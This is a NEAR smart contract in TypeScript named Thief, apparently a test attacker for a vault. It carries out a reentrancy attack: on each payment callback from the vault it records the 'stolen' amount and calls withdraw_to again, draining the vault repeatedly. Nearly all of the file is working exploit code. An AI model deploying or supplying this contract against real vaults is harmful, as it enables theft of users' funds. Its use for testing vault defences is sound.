import { NearBindgen, NearPromise, assert, call, initialize, near, validateAccountId, view } from 'near-sdk-js';

const NO_DEPOSIT = 0n;
const SHARE = 1n; // an equal part of the gas that is left, which here is all of it

/** Withdraws money from the vault, and withdraws again each time it is paid. */
@NearBindgen({ requireInit: true })
export class Thief {
  vault_id: string = '';
  /** How many withdrawals are still to be made. */
  times: number = 0;
  stolen: bigint = 0n;

  @initialize({})
  init({ vault_id }: { vault_id: string }): void {
    assert(near.attachedDeposit() === NO_DEPOSIT, 'init takes no deposit');
    assert(typeof vault_id === 'string' && validateAccountId(vault_id), 'vault_id must be an account id');
    this.vault_id = vault_id;
  }

  /** All that the vault has paid. */
  @view({})
  loot(): bigint {
    return this.stolen;
  }

  /** Becomes a customer of the vault. */
  @call({ payableFunction: true })
  deposit(): NearPromise {
    return NearPromise.new(this.vault_id).functionCallWeight('deposit', '', near.attachedDeposit(), 0n, SHARE);
  }

  /** Withdraws the same amount so many times. */
  @call({})
  attack({ amount, times }: { amount: string; times: number }): NearPromise | boolean {
    const yocto = toYocto(amount);
    assert(Number.isInteger(times) && times >= 0 && times < 2 ** 32, 'times must be a whole number');
    this.times = times;
    return this.withdraw(yocto);
  }

  /** What the vault calls when it pays. A vault that waits for the promise returned here waits with its books, too. */
  @call({ payableFunction: true })
  on_vault_payment({ amount }: { amount: string }): NearPromise | boolean {
    assert(near.predecessorAccountId() === this.vault_id, 'only the vault pays');
    const yocto = toYocto(amount);
    this.stolen += yocto;
    return this.withdraw(yocto);
  }

  withdraw(yocto: bigint): NearPromise | boolean {
    if (this.times === 0) return true;
    this.times -= 1;
    const args = JSON.stringify({ receiver_id: near.currentAccountId(), amount: `${yocto}` });
    return NearPromise.new(this.vault_id).functionCallWeight('withdraw_to', args, NO_DEPOSIT, 0n, SHARE);
  }
}

/** A type says nothing of what arrives. */
function toYocto(amount: unknown): bigint {
  assert(typeof amount === 'string' && /^\+?\d+$/.test(amount), 'amount must be a number of yoctoNEAR, as a string');
  const yocto = BigInt(amount as string);
  assert(yocto < 2n ** 128n, 'amount must fit into 128 bits');
  return yocto;
}
